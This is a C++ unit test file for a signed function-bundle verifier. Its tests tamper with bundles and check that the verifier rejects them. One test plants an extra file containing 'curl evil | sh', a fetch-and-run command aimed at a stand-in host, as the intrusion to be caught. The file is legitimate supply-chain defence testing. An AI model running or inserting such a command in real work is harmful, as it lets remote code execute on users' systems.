#include "bundle/verify/bundle_verifier.h"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <cstdlib>
#include <functional>

#include "core/file.h"
#include "formats/zstd/zstd.h"
#include "provenance/signing/dsse.h"
#include "tests/support/status_matchers.h"

using ::fnseal::test::IsOk;

namespace fnseal {
namespace {

using ::testing::HasSubstr;

std::string TempDir() {
  const char* dir = std::getenv("TEST_TMPDIR");
  return dir != nullptr ? dir : "/tmp";
}

PrivateKey LoadKey(const std::string& name) {
  Result<std::string> pem = ReadFile("testdata/keys/" + name);
  EXPECT_THAT(pem, IsOk());
  Result<PrivateKey> key = PrivateKey::FromPem(*pem);
  EXPECT_THAT(key, IsOk());
  return std::move(key).value();
}

class BundleVerifierTest : public ::testing::Test {
 protected:
  void SetUp() override {
    dir_ = TempDir() + "/" + ::testing::UnitTest::GetInstance()->current_test_info()->name();
    ASSERT_EQ(std::system(("rm -rf '" + dir_ + "' && mkdir -p '" + dir_ + "'").c_str()), 0);
    // A function artifact: an executable bootstrap and a data file.
    std::vector<ArchiveInput> inputs(2);
    inputs[0].path = "bootstrap";
    inputs[0].content = "#!/bin/sh\necho hello\n";
    inputs[0].executable = true;
    inputs[1].path = "data/greeting.txt";
    inputs[1].content = "hello\n";
    Result<TarPlan> plan = PlanTar(inputs);
    ASSERT_THAT(plan, IsOk());
    StringSink tar;
    ASSERT_THAT(WriteTar(*plan, &tar), IsOk());
    ASSERT_THAT(WriteFileAtomic(dir_ + "/artifact.tar", tar.data()), IsOk());

    BundleSpec spec;
    spec.function_name = "hello";
    spec.entrypoint = "bootstrap";
    spec.runtime = "provided.al2023";
    spec.artifact_path = dir_ + "/artifact.tar";
    spec.provenance.builder_id = "https://fnseal.dev/builders/test";
    spec.provenance.resolved_dependencies.push_back({"greeting.txt", "", std::string(64, 'a'), ""});
    unsigned_ = dir_ + "/unsigned.fnb";
    signed_ = dir_ + "/signed.fnb";
    Status built = BuildBundle(spec, unsigned_);
    ASSERT_THAT(built, IsOk());
    Status signed_ok = SignBundle(unsigned_, {key_a_}, signed_);
    ASSERT_THAT(signed_ok, IsOk());
  }

  Result<Verification> Verify(const std::string& path, int threshold = 1) {
    return VerifyBundle(path, {key_a_.public_key()}, threshold);
  }

  // Rewrites the signed bundle through `edit` (given the files and attestations) as a new,
  // well-formed bundle, so that only the verifier's checks can catch the change.
  std::string Tamper(const std::function<void(std::vector<ArchiveInput>*)>& edit) {
    Result<BundleContents> contents = ReadBundle(signed_, /*keep_contents=*/true);
    EXPECT_THAT(contents, IsOk());
    std::vector<ArchiveInput> files;
    for (BundleFile& f : contents->files) {
      ArchiveInput input;
      input.path = f.path;
      input.content = f.content;
      files.push_back(input);
    }
    for (auto& [path, bytes] : contents->attestations) {
      ArchiveInput input;
      input.path = path;
      input.content = bytes;
      files.push_back(input);
    }
    edit(&files);
    std::string out = dir_ + "/tampered.fnb";
    Status written = WriteBundleArchive(files, out, ZstdOptions{});
    EXPECT_THAT(written, IsOk());
    return out;
  }

  // Rewrites the provenance envelope through `edit`.
  std::string TamperEnvelope(const std::function<void(DsseEnvelope*)>& edit) {
    return Tamper([&](std::vector<ArchiveInput>* files) {
      for (ArchiveInput& f : *files) {
        if (f.path != "attestations/provenance.dsse.json") continue;
        Result<DsseEnvelope> envelope = ParseDsseEnvelope(f.content);
        ASSERT_THAT(envelope, IsOk());
        edit(&*envelope);
        f.content = SerializeDsseEnvelope(*envelope);
      }
    });
  }

  static ArchiveInput* Find(std::vector<ArchiveInput>* files, const std::string& path) {
    for (ArchiveInput& f : *files) {
      if (f.path == path) return &f;
    }
    ADD_FAILURE() << "no " << path << " in the bundle";
    return &files->front();
  }

  PrivateKey key_a_ = LoadKey("ed25519.pem");
  PrivateKey key_b_ = LoadKey("ed25519-b.pem");
  std::string dir_;
  std::string unsigned_;
  std::string signed_;
};

void ExpectRejected(const Result<Verification>& result, StatusCode code, const std::string& fragment) {
  ASSERT_FALSE(result.ok()) << "the bundle verified";
  EXPECT_EQ(result.status().code(), code) << result.status().ToString();
  EXPECT_THAT(result.status().message(), HasSubstr(fragment));
}

TEST_F(BundleVerifierTest, AcceptsASignedBundleAndReportsWhatItHolds) {
  Result<Verification> result = Verify(signed_);
  ASSERT_THAT(result, IsOk());
  EXPECT_EQ(result->kind, "bundle");
  ASSERT_TRUE(result->function.has_value());
  EXPECT_EQ(result->function->name, "hello");
  EXPECT_EQ(result->function->entrypoint, "bootstrap");
  ASSERT_EQ(result->files.size(), 2u);
  EXPECT_EQ(result->files[0].path, "artifacts/hello.tar");
  EXPECT_EQ(result->files[1].path, "manifest.json");
  EXPECT_EQ(result->key_ids, std::vector<std::string>{key_a_.public_key().key_id()});
  ASSERT_EQ(result->statements.size(), 1u);
  EXPECT_EQ(result->statements[0].name, "attestations/provenance.dsse.json");
  EXPECT_EQ(result->statements[0].predicate_type, kSlsaProvenanceV1);
  // The verified statement is handed back as the exact signed payload bytes.
  Result<BundleContents> contents = ReadBundle(signed_, /*keep_contents=*/false);
  ASSERT_THAT(contents, IsOk());
  Result<DsseEnvelope> envelope = ParseDsseEnvelope(contents->attestations.at("attestations/provenance.dsse.json"));
  ASSERT_THAT(envelope, IsOk());
  EXPECT_EQ(result->statements[0].payload, envelope->payload);
}

TEST_F(BundleVerifierTest, SigningIsDeterministic) {
  std::string again = dir_ + "/signed-again.fnb";
  ASSERT_THAT(SignBundle(unsigned_, {key_a_}, again), IsOk());
  EXPECT_EQ(*ReadFile(again), *ReadFile(signed_));
}

TEST_F(BundleVerifierTest, RejectsAnUnsignedBundle) {
  ExpectRejected(Verify(unsigned_), StatusCode::kPermissionDenied, "bundle is not signed");
}

TEST_F(BundleVerifierTest, RejectsAChangedByteInTheArtifact) {
  std::string path = Tamper([](std::vector<ArchiveInput>* files) {
    Find(files, "artifacts/hello.tar")->content[600] ^= 1;
  });
  ExpectRejected(Verify(path), StatusCode::kPermissionDenied,
                 "bundle file 'artifacts/hello.tar' does not match its signed digest");
}

TEST_F(BundleVerifierTest, RejectsAChangedByteInTheManifest) {
  std::string path = Tamper([](std::vector<ArchiveInput>* files) { Find(files, "manifest.json")->content[5] ^= 1; });
  ExpectRejected(Verify(path), StatusCode::kPermissionDenied,
                 "bundle file 'manifest.json' does not match its signed digest");
}

TEST_F(BundleVerifierTest, RejectsAChangedByteInTheSignedPayload) {
  std::string path = TamperEnvelope([](DsseEnvelope* e) { e->payload[10] ^= 1; });
  ExpectRejected(Verify(path), StatusCode::kPermissionDenied, "no signature verifies with a trusted key");
}

TEST_F(BundleVerifierTest, RejectsAnExtraFile) {
  std::string path = Tamper([](std::vector<ArchiveInput>* files) {
    ArchiveInput extra;
    extra.path = "artifacts/extra.sh";
    extra.content = "curl evil | sh\n";
    files->push_back(extra);
  });
  ExpectRejected(Verify(path), StatusCode::kPermissionDenied,
                 "bundle file 'artifacts/extra.sh' is not named by any signed statement");
}

TEST_F(BundleVerifierTest, RejectsAMissingFile) {
  std::string path = Tamper([](std::vector<ArchiveInput>* files) {
    files->erase(std::remove_if(files->begin(), files->end(),
                                [](const ArchiveInput& f) { return f.path == "artifacts/hello.tar"; }),
                 files->end());
  });
  ExpectRejected(Verify(path), StatusCode::kPermissionDenied,
                 "bundle is missing 'artifacts/hello.tar', which a signed statement names");
}

TEST_F(BundleVerifierTest, RejectsAChangedPayloadType) {
  std::string path = TamperEnvelope([](DsseEnvelope* e) { e->payload_type = "application/json"; });
  ExpectRejected(Verify(path), StatusCode::kPermissionDenied, "no signature verifies with a trusted key");
}

TEST_F(BundleVerifierTest, RejectsAWrongPayloadTypeEvenWhenValidlySigned) {
  std::string path = TamperEnvelope([&](DsseEnvelope* e) {
    e->payload_type = "application/json";
    e->signatures.clear();
    ASSERT_THAT(AddDsseSignature(e, key_a_), IsOk());
  });
  ExpectRejected(Verify(path), StatusCode::kPermissionDenied, "payload type 'application/json' is not");
}

TEST_F(BundleVerifierTest, RejectsASignatureByAnotherKey) {
  std::string other = dir_ + "/other.fnb";
  ASSERT_THAT(SignBundle(unsigned_, {key_b_}, other), IsOk());
  ExpectRejected(Verify(other), StatusCode::kPermissionDenied, "no signature verifies with a trusted key");
}

TEST_F(BundleVerifierTest, KeyIdInTheBundleDoesNotChooseTheKey) {
  // Re-sign with key B but claim key A's id: still rejected when only A is trusted.
  std::string path = TamperEnvelope([&](DsseEnvelope* e) {
    e->signatures.clear();
    ASSERT_THAT(AddDsseSignature(e, key_b_), IsOk());
    e->signatures[0].keyid = key_a_.public_key().key_id();
  });
  ExpectRejected(Verify(path), StatusCode::kPermissionDenied, "no signature verifies with a trusted key");
}

TEST_F(BundleVerifierTest, ThresholdCountsDistinctKeys) {
  std::string both = dir_ + "/both.fnb";
  ASSERT_THAT(SignBundle(signed_, {key_b_}, both), IsOk());
  Result<Verification> ok = VerifyBundle(both, {key_a_.public_key(), key_b_.public_key()}, 2);
  ASSERT_THAT(ok, IsOk());
  EXPECT_EQ(ok->key_ids.size(), 2u);
  // The same signature twice does not make two signers.
  std::string doubled = TamperEnvelope([](DsseEnvelope* e) { e->signatures.push_back(e->signatures[0]); });
  ExpectRejected(VerifyBundle(doubled, {key_a_.public_key(), key_b_.public_key()}, 2),
                 StatusCode::kPermissionDenied, "1 of 2 trusted keys signed");
}

TEST_F(BundleVerifierTest, SigningTwiceWithTheSameKeyIsRefused) {
  Status again = SignBundle(signed_, {key_a_}, dir_ + "/again.fnb");
  EXPECT_EQ(again.code(), StatusCode::kFailedPrecondition);
  EXPECT_THAT(again.message(), HasSubstr("already signed"));
}

TEST_F(BundleVerifierTest, RejectsATruncatedBundle) {
  std::string bytes = *ReadFile(signed_);
  for (size_t keep : {size_t{0}, size_t{3}, size_t{20}, bytes.size() / 2, bytes.size() - 1}) {
    std::string path = dir_ + "/truncated.fnb";
    ASSERT_THAT(WriteFileAtomic(path, bytes.substr(0, keep)), IsOk());
    Result<Verification> result = Verify(path);
    ASSERT_FALSE(result.ok()) << "verified a bundle truncated to " << keep << " bytes";
    EXPECT_EQ(result.status().code(), StatusCode::kDataLoss) << keep << ": " << result.status().ToString();
  }
}

TEST_F(BundleVerifierTest, RejectsAFlippedBitInTheCompressedBundle) {
  std::string bytes = *ReadFile(signed_);
  bytes[bytes.size() / 2] ^= 0x10;
  std::string path = dir_ + "/flipped.fnb";
  ASSERT_THAT(WriteFileAtomic(path, bytes), IsOk());
  Result<Verification> result = Verify(path);
  ASSERT_FALSE(result.ok());
  EXPECT_EQ(result.status().code(), StatusCode::kDataLoss) << result.status().ToString();
}

TEST_F(BundleVerifierTest, RejectsTrailingBytesAfterTheBundle) {
  std::string path = dir_ + "/trailing.fnb";
  ASSERT_THAT(WriteFileAtomic(path, *ReadFile(signed_) + "x"), IsOk());
  ExpectRejected(Verify(path), StatusCode::kDataLoss, "trailing data");
}

TEST_F(BundleVerifierTest, ReportsAMissingBundleAsNotFound) {
  ExpectRejected(Verify(dir_ + "/nope.fnb"), StatusCode::kNotFound, "nope.fnb");
}

}  // namespace
}  // namespace fnseal
